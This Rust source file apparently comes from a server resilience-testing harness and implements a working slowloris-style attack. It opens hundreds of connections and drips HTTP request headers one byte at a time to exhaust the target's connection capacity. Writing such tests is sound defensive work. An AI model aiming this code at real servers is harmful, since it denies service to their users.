//! Requests whose headers come byte by byte, over more connections than may be open.

use std::time::{Duration, Instant};

use anyhow::Result;
use futures::StreamExt;
use futures::future::join_all;
use tokio::io::AsyncWriteExt;

use crate::peers::{Stream, connect};
use crate::stage::{Limits, Stage};
use crate::{Attack, Budget};

/// The attack.
pub static ATTACK: Attack = Attack {
    name: "slow-headers",
    about: "requests whose headers come byte by byte",
    budget: Budget::USUAL,
    limits: Limits { descriptors: Some(400), ..Limits::NONE },
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: &Stage) -> Result<()> {
    let until = Instant::now() + Duration::from_secs(stage.pick(2, 60));
    let drip = async |mut peer: Stream| {
        let mut bytes = b"GET /readyz HTTP/1.1\r\nhost: x\r\n".iter().chain(std::iter::repeat(&b'a'));
        while Instant::now() < until {
            let Some(byte) = bytes.next() else { break };
            if peer.write_all(&[*byte]).await.is_err() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    let connecting = (0..stage.pick(300, 1_000)).map(|_| connect(stage, "http/1.1"));
    let connecting: Vec<_> = futures::stream::iter(connecting).buffer_unordered(50).collect().await;
    join_all(connecting.into_iter().flatten().map(drip)).await;
    Ok(())
}
